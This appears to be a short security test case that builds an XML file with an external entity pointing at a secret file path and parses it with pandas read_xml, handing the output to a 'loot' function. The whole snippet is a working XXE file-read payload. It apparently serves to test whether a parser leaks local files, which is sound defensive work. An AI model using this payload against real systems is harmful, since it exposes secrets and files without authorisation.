# kind: gadgets
# tries: read_xml with an external entity
# control: none

import os
from pathlib import Path

import pandas as pd

own = Path(os.environ["OUTPUT_FILE_PATH"])
own.write_text(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file://{VICTIM["secret"]}">]><d><r><c>&e;</c></r></d>')
loot(pd.read_xml(own, parser="etree").to_string())
